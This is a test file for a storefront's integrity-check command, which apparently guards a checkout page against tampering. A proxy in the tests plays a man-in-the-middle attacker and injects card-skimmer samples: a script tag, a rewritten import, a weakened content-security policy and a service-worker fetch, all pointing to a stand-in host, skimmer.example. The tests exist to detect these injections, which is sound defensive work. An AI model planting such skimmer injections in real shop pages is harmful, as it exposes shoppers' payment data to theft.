import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { UNREGISTERING_WORKER } from '#storefront/server/files/app-files.ts';
import { runShop } from '../../../cli/commands/run-shop.ts';
import { commandsOf } from '../../operations/documented-commands.ts';
import { workerShop } from '../support/worker-shop.ts';

const shopUrl = workerShop().url;
const checkout = '/kassan';

interface Change {
  isOf(path: string): boolean;
  body?(body: string): string;
  headers?: Record<string, string>;
}

/** Applied by the proxy, as an attacker between the shop and its visitors would. */
let change: Change | undefined;

/** A proxy before the shop. */
const proxy = createServer(async (request, response) => {
  const path = request.url ?? '';
  const upstream = await fetch(shopUrl + path, { redirect: 'manual' });
  const applied = change?.isOf(path) ? change : undefined;
  const body = Buffer.from(await upstream.arrayBuffer());
  const { 'content-encoding': _, 'content-length': __, ...headers } = Object.fromEntries(upstream.headers);
  response.writeHead(upstream.status, { ...headers, ...applied?.headers });
  response.end(applied?.body ? applied.body(body.toString()) : body);
});
let proxyUrl: string;
beforeAll(async () => {
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
});
afterAll(() => {
  proxy.closeAllConnections();
  return new Promise((resolve) => proxy.close(resolve));
});
beforeEach(() => {
  change = undefined;
});

async function run(...args: string[]) {
  const [out, errors]: [string[], string[]] = [[], []];
  const code = await runShop(['integrity', ...args], {
    environment: {},
    stdin: Readable.from([]),
    out: (line) => out.push(line),
    error: (line) => errors.push(line),
    progress: { write: () => undefined },
    signal: new AbortController().signal,
  });
  return { code, out: out.join('\n'), errors };
}

test('the checkout of a running shop has the scripts and headers of its release, in each language', async () => {
  for (const path of [checkout, '/fi/kassa', '/en/checkout']) {
    const { code, out, errors } = await run('check', proxyUrl + path);
    expect([code, errors]).toEqual([0, []]);
    expect(out).toMatch(/has the headers and the \d{2,} scripts of this release, and no other script/);
  }
});

test('docs/payments.md has the command', async () => {
  const [command = ''] = commandsOf('payments.md', 'PCI DSS');
  const words = command.replace('https://shop.example', proxyUrl).split(' ');
  expect(words.slice(0, 5)).toEqual(['npm', 'run', 'shop', '--', 'integrity']);
  expect(await run(...words.slice(5))).toMatchObject({ code: 0 });
});

test('accepts the worker of a shop that has turned its service worker off', async () => {
  change = { isOf: (path) => path === '/sw.js', body: () => UNREGISTERING_WORKER };
  expect(await run('check', proxyUrl + checkout)).toMatchObject({ code: 0 });
});

const isCheckout = (path: string) => path === checkout;
const added = '<script src="https://skimmer.example/a.js"></script>';
const policy = "default-src 'self'; script-src 'self' https://skimmer.example";

test.each<[string, Change, RegExp]>([
  [
    'a script in the page',
    { isOf: isCheckout, body: (html) => html.replace('</body>', `${added}</body>`) },
    /The page has another script: <script src="https:\/\/skimmer/,
  ],
  [
    'a changed start script',
    { isOf: isCheckout, body: (html) => html.replace('import(entry)', 'import("https://skimmer.example")') },
    /does not have the start script of this release once/,
  ],
  [
    'a weaker policy',
    { isOf: isCheckout, headers: { 'content-security-policy': policy } },
    /The policy has "script-src 'self' https:\/\/skimmer\.example"/,
  ],
  [
    'a header less',
    { isOf: isCheckout, headers: { 'x-content-type-options': '' } },
    /The header x-content-type-options is "" instead of "nosniff"/,
  ],
  [
    'other script files',
    { isOf: isCheckout, body: (html) => html.replace(/("entry":"\/assets\/)/, '$1x-') },
    /The page loads \/assets\/x-.*, which this release does not have/,
  ],
  [
    'a changed script file',
    { isOf: (path) => path === '/sw.js', body: (script) => `${script}fetch('https://skimmer.example')` },
    /\/sw\.js differs from the file of this release/,
  ],
])('finds %s', async (_, found, problem) => {
  change = found;
  const { code, errors } = await run('check', proxyUrl + checkout);
  expect(code).toBe(1);
  expect(errors).toEqual(expect.arrayContaining([expect.stringMatching(problem)]));
});

test('says where a page redirects, what is not a URL, and what cannot be read', async () => {
  const { errors } = await run('check', `${proxyUrl}/account/library`);
  expect(errors[0]).toMatch(/The page redirects to .*: check that URL instead/);
  expect((await run('check', 'kassan')).errors).toEqual(['Not a URL: kassan']);
  const { errors: unreachable } = await run('check', 'http://127.0.0.1:1/kassan');
  expect(unreachable[0]).toMatch(/^http:\/\/127\.0\.0\.1:1\/kassan cannot be read: /);
});

test('lists the scripts of the release with their hashes', async () => {
  const scripts = JSON.parse((await run('scripts', '--json')).out);
  expect(scripts).toContainEqual({
    path: '/sw.js',
    bytes: expect.any(Number),
    sha256: expect.stringMatching(/^[\da-f]{64}$/),
  });
});
